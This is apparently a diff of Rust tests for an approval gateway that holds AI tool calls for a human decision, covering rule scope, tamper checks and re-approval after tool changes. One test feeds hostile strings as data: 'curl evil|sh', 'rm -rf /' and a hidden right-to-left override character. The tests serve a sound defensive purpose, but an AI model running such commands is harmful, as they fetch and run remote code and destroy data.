@@ -4,7 +4,7 @@ use std::fs;
 
 use proptest::prelude::*;
 use serde_json::{Map, Value, json};
-use switchboard_approvals::Remember;
+use switchboard_approvals::RuleScope;
 use switchboard_runtime::{
     PolicyConfig,
     toolcall::{ErrorKind, ToolSpec, numbers::canonical},
@@ -12,7 +12,7 @@ use switchboard_runtime::{
 use switchboard_testkit::Fake;
 use tokio::runtime::Builder;
 
-use crate::{House, always, yes};
+use crate::{TestGateway, always, yes};
 
 fn value() -> impl Strategy<Value = Value> {
     let leaf = prop_oneof![
@@ -53,12 +53,12 @@ proptest! {
     fn a_decision_never_applies_to_other_arguments((one, other) in two()) {
         let runtime = Builder::new_current_thread().enable_all().start_paused(true).build().unwrap();
         let is_allowed = runtime.block_on(async {
-            let house = House::new();
-            let (pending, called) = house.hold("act", one.clone()).await;
-            house.desk.decide(&pending.id, always(Remember::Arguments)).unwrap();
+            let gateway = TestGateway::new();
+            let (pending, called) = gateway.hold("act", one.clone()).await;
+            gateway.queue.decide(&pending.id, always(RuleScope::Arguments)).unwrap();
             assert!(called.await.unwrap().is_success());
-            assert!(!house.is_allowed("other", one.clone()).await, "another tool");
-            house.is_allowed("act", other.clone()).await
+            assert!(!gateway.is_allowed("other", one.clone()).await, "another tool");
+            gateway.is_allowed("act", other.clone()).await
         });
         prop_assert_eq!(is_allowed, canonical(&one) == canonical(&other));
     }
@@ -66,31 +66,31 @@ proptest! {
 
 #[tokio::test(start_paused = true)]
 async fn an_answer_is_used_once() {
-    let house = House::new();
-    let (pending, called) = house.hold("act", json!({"a": 1})).await;
-    house.desk.decide(&pending.id, yes()).unwrap();
+    let gateway = TestGateway::new();
+    let (pending, called) = gateway.hold("act", json!({"a": 1})).await;
+    gateway.queue.decide(&pending.id, yes()).unwrap();
     assert!(called.await.unwrap().is_success());
-    assert!(!house.is_allowed("act", json!({"a": 1})).await);
+    assert!(!gateway.is_allowed("act", json!({"a": 1})).await);
 }
 
 #[tokio::test(start_paused = true)]
 async fn one_of_two_equal_calls_is_allowed() {
-    let house = House::new();
-    let (one, first) = house.hold("act", json!({"a": 1})).await;
-    let (other, second) = house.hold("act", json!({"a": 1})).await;
-    house.desk.decide(&other.id, yes()).unwrap();
+    let gateway = TestGateway::new();
+    let (one, first) = gateway.hold("act", json!({"a": 1})).await;
+    let (other, second) = gateway.hold("act", json!({"a": 1})).await;
+    gateway.queue.decide(&other.id, yes()).unwrap();
     assert!(second.await.unwrap().is_success());
     assert!(!first.is_finished());
-    assert_eq!(house.desk.pending().unwrap()[0].id, one.id);
+    assert_eq!(gateway.queue.pending().unwrap()[0].id, one.id);
 }
 
 #[tokio::test(start_paused = true)]
-async fn an_answer_to_another_question_is_none() {
-    let house = House::new();
-    let (one, first) = house.hold("act", json!({"a": 1})).await;
-    let (other, _second) = house.hold("act", json!({"a": 2})).await;
-    let decided = |id: &str| house.folder.path().join(format!("approvals/decided/{id}.json"));
-    house.elsewhere().decide(&other.id, yes()).unwrap();
+async fn an_outcome_of_another_approval_is_an_error() {
+    let gateway = TestGateway::new();
+    let (one, first) = gateway.hold("act", json!({"a": 1})).await;
+    let (other, _second) = gateway.hold("act", json!({"a": 2})).await;
+    let decided = |id: &str| gateway.folder.path().join(format!("approvals/decided/{id}.json"));
+    gateway.elsewhere().decide(&other.id, yes()).unwrap();
     fs::copy(decided(&other.id), decided(&one.id)).unwrap();
     let result = first.await.unwrap();
     assert_eq!(result.error_kind(), Some(ErrorKind::Denied), "{}", result.text());
@@ -98,32 +98,32 @@ async fn an_answer_to_another_question_is_none() {
 
 #[tokio::test(start_paused = true)]
 async fn a_tool_can_be_allowed_for_good_and_that_forgotten() {
-    let house = House::new();
-    let (pending, called) = house.hold("act", json!({"a": 1})).await;
-    let decided = house.desk.decide(&pending.id, always(Remember::Tool)).unwrap();
+    let gateway = TestGateway::new();
+    let (pending, called) = gateway.hold("act", json!({"a": 1})).await;
+    let decided = gateway.queue.decide(&pending.id, always(RuleScope::Tool)).unwrap();
     assert!(called.await.unwrap().is_success());
-    assert!(house.is_allowed("act", json!({"b": 2})).await);
-    assert!(!house.is_allowed("other", json!({"b": 2})).await);
+    assert!(gateway.is_allowed("act", json!({"b": 2})).await);
+    assert!(!gateway.is_allowed("other", json!({"b": 2})).await);
     let rule = decided.rule.unwrap();
-    assert_eq!(house.elsewhere().rules().unwrap()[0].id, rule.id);
-    house.elsewhere().forget(&rule.id).unwrap();
-    assert!(!house.is_allowed("act", json!({"b": 2})).await);
+    assert_eq!(gateway.elsewhere().rules().unwrap()[0].id, rule.id);
+    gateway.elsewhere().forget(&rule.id).unwrap();
+    assert!(!gateway.is_allowed("act", json!({"b": 2})).await);
 }
 
 // A rule that somebody has tampered with allows nothing.
 #[tokio::test(start_paused = true)]
 async fn a_rule_without_its_fingerprint_allows_nothing() {
-    let house = House::new();
-    let (pending, called) = house.hold("act", json!({"a": 1})).await;
-    house.desk.decide(&pending.id, always(Remember::Arguments)).unwrap();
+    let gateway = TestGateway::new();
+    let (pending, called) = gateway.hold("act", json!({"a": 1})).await;
+    gateway.queue.decide(&pending.id, always(RuleScope::Arguments)).unwrap();
     called.await.unwrap();
-    let file = house.folder.path().join("approvals/rules.json");
+    let file = gateway.folder.path().join("approvals/rules.json");
     let mut rules: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
     rules[0].as_object_mut().unwrap().remove("fingerprint");
     fs::write(&file, rules.to_string()).unwrap();
-    assert!(!house.is_allowed("act", json!({"a": 1})).await);
+    assert!(!gateway.is_allowed("act", json!({"a": 1})).await);
     fs::write(&file, "[{").unwrap();
-    let result = house.call("act", json!({"a": 1})).await.unwrap();
+    let result = gateway.call("act", json!({"a": 1})).await.unwrap();
     assert_eq!(result.error_kind(), Some(ErrorKind::Denied), "rules that cannot be read");
 }
 
@@ -139,17 +139,17 @@ async fn a_tool_that_has_changed_is_asked_about_again() {
         |spec| _ = spec.extra.insert("title".to_owned(), json!("Harmless")),
         |spec| _ = spec.extra.insert("annotations".to_owned(), json!({"readOnlyHint": true})),
     ];
-    for remember in [Remember::Tool, Remember::Arguments] {
+    for remember in [RuleScope::Tool, RuleScope::Arguments] {
         for change in changes {
-            let house = House::new();
-            let (pending, called) = house.hold("act", json!({"a": "1"})).await;
+            let gateway = TestGateway::new();
+            let (pending, called) = gateway.hold("act", json!({"a": "1"})).await;
             assert_eq!(pending.note, None);
-            let rule = house.desk.decide(&pending.id, always(remember)).unwrap().rule.unwrap();
+            let rule = gateway.queue.decide(&pending.id, always(remember)).unwrap().rule.unwrap();
             assert!(called.await.unwrap().is_success());
-            assert!(house.is_allowed("act", json!({"a": "1"})).await);
+            assert!(gateway.is_allowed("act", json!({"a": "1"})).await);
 
-            house.executor.tools().add(Fake::echoes("act").with(change)).unwrap();
-            let (pending, called) = house.hold("act", json!({"a": "1"})).await;
+            gateway.executor.tools().add(Fake::echoes("act").with(change)).unwrap();
+            let (pending, called) = gateway.hold("act", json!({"a": "1"})).await;
             let note = pending.note.clone().unwrap();
             let expected = format!(
                 "the tool's definition has changed since ada allowed it for good (rule {})",
@@ -157,9 +157,9 @@ async fn a_tool_that_has_changed_is_asked_about_again() {
             );
             assert_eq!(note, expected);
             // Allowed again, it is allowed as it is now.
-            house.desk.decide(&pending.id, always(remember)).unwrap();
+            gateway.queue.decide(&pending.id, always(remember)).unwrap();
             assert!(called.await.unwrap().is_success());
-            assert!(house.is_allowed("act", json!({"a": "1"})).await);
+            assert!(gateway.is_allowed("act", json!({"a": "1"})).await);
         }
     }
 }
@@ -167,17 +167,17 @@ async fn a_tool_that_has_changed_is_asked_about_again() {
 // PO-1: a rule that an older version left knows no definition; what it allowed is asked about once more.
 #[tokio::test(start_paused = true)]
 async fn a_rule_without_a_definition_is_asked_about_again() {
-    let house = House::new();
-    let (pending, called) = house.hold("act", json!({})).await;
-    house.desk.decide(&pending.id, always(Remember::Tool)).unwrap();
+    let gateway = TestGateway::new();
+    let (pending, called) = gateway.hold("act", json!({})).await;
+    gateway.queue.decide(&pending.id, always(RuleScope::Tool)).unwrap();
     called.await.unwrap();
-    let file = house.folder.path().join("approvals/rules.json");
+    let file = gateway.folder.path().join("approvals/rules.json");
     let mut rules: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
     for key in ["definition", "decider"] {
         rules[0].as_object_mut().unwrap().remove(key).unwrap();
     }
     fs::write(&file, rules.to_string()).unwrap();
-    let (pending, _called) = house.hold("act", json!({})).await;
+    let (pending, _called) = gateway.hold("act", json!({})).await;
     let note = pending.note.unwrap();
     assert!(note.starts_with("ada allowed it for good (rule "), "{note}");
     assert!(
@@ -190,12 +190,12 @@ async fn a_rule_without_a_definition_is_asked_about_again() {
 #[tokio::test(start_paused = true)]
 async fn who_decides_sees_what_will_run() {
     let secret = PolicyConfig { secret_arguments: vec!["pin".to_owned()], ..Default::default() };
-    let house = House::with(secret);
+    let gateway = TestGateway::with(secret);
     let schema = json!({"type": "object", "properties": {"key": {"format": "password"}}});
-    house.executor.tools().add(Fake::echoes("act").parameters(schema)).unwrap();
+    gateway.executor.tools().add(Fake::echoes("act").parameters(schema)).unwrap();
     let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u{202e}";
     let args = json!({"command": command, "password_note": "rm -rf /", "key": "abc", "pin": 1234});
-    let (pending, _called) = house.hold("act", args).await;
+    let (pending, _called) = gateway.hold("act", args).await;
     let expected = concat!(
         r#"{"command":"ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e","password_note":"rm -rf /","#,
         r#""key":"[secret, 3 characters]","pin":"[secret, 4 characters]"}"#
